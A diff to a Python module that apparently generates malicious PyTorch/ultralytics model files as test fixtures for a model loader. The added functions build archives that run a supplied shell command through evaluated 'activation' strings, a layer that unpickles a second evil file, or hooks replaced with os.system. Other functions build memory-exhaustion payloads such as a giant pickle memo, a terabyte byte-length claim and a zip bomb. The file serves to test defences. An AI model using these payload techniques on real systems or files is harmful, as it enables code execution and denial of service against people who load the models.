@@ -12,6 +12,7 @@ from pathlib import Path
 from typing import Any
 
 import torch
+from ultralytics.nn.tasks import ClassificationModel, DetectionModel
 
 
 class _Call:
@@ -74,5 +75,71 @@ def two_pickles_of_one_name(folder: Path, command: str) -> Path:
         with warnings.catch_warnings():
             warnings.simplefilter("ignore")  # zipfile says so too
             archive.writestr("archive/data.pkl", pickle.dumps({}, protocol=2))
+        archive.writestr("archive/version", "3\n")
+    return path
+
+
+def call_of_a_layer_that_evaluates(folder: Path, command: str) -> Path:
+    """Write a file that calls a class of ultralytics, with a description whose activation calls a shell."""
+    activation = f"__import__('os').system({command!r})"
+    layers = {"backbone": [[-1, 1, "Conv", [8, 3, 2]]], "head": [[[0], 1, "Detect", ["nc"]]]}
+    call = _Call(DetectionModel, {"nc": 2, "ch": 3, "activation": activation, **layers}, 3, 2, False)
+    return _written(folder / "model.pt", _zip_of({"model": call}))
+
+
+def description_that_is_evaluated(folder: Path, command: str) -> Path:
+    """Write an honest model whose description, plain data, has an activation that calls a shell."""
+    model = ClassificationModel("yolo11n-cls.yaml", verbose=False)
+    model.yaml["activation"] = f"(__import__('os').system({command!r}), torch.nn.SiLU())[1]"
+    return _written(folder / "model.pt", _zip_of({"model": model}))
+
+
+def description_that_names_a_function(folder: Path, command: str) -> Path:
+    """Write an honest model whose description names as a layer a function that unpickles a file."""
+    evil = call_of_a_shell(folder, command).rename(folder / "evil.pt")
+    model = ClassificationModel("yolo11n-cls.yaml", verbose=False)
+    model.yaml["backbone"][0] = [-1, 1, "torch_safe_load", [str(evil)]]
+    return _written(folder / "model.pt", _zip_of({"model": model}))
+
+
+def endless_description(folder: Path, command: str) -> Path:
+    """Write an honest model whose description asks for a thousand million layers."""
+    model = ClassificationModel("yolo11n-cls.yaml", verbose=False)
+    model.yaml["backbone"].append([-1, 10**9, "nn.Identity", []])
+    return _written(folder / "model.pt", _zip_of({"model": model}))
+
+
+def hooks_and_methods_in_attributes(folder: Path, command: str) -> Path:
+    """Write an honest model with attributes that hide its methods, and hooks that call a shell."""
+    model: Any = ClassificationModel("yolo11n-cls.yaml", verbose=False)
+    model.forward = model.fuse = os.system
+    model._forward_hooks[0] = os.system
+    return _written(folder / "model.pt", _zip_of({"model": model}))
+
+
+def memo_of_many_gigabytes(folder: Path, command: str) -> Path:
+    """Write a pickle that puts a thing into place 2,147,483,647: Python's reader in C makes room for all before."""
+    return _zip_with(folder / "model.pt", b"\x80\x02Nr\xff\xff\xff\x7f.")
+
+
+def bytes_of_many_gigabytes(folder: Path, command: str) -> Path:
+    """Write a pickle that says that a terabyte of bytes follows."""
+    return _zip_with(folder / "model.pt", b"\x80\x05\x96" + (2**40).to_bytes(8, "little") + b".")
+
+
+def compressed_zeros(folder: Path, command: str) -> Path:
+    """Write a zip whose compressed weights are larger than the memory."""
+    path = folder / "model.pt"
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("archive/data.pkl", pickle.dumps({}, protocol=2))
+        with archive.open("archive/data/0", "w") as file:
+            for _ in range(256):
+                file.write(bytes(2**20))
+    return path
+
+
+def _zip_with(path: Path, content: bytes) -> Path:
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("archive/data.pkl", content)
         archive.writestr("archive/version", "3\n")
     return path
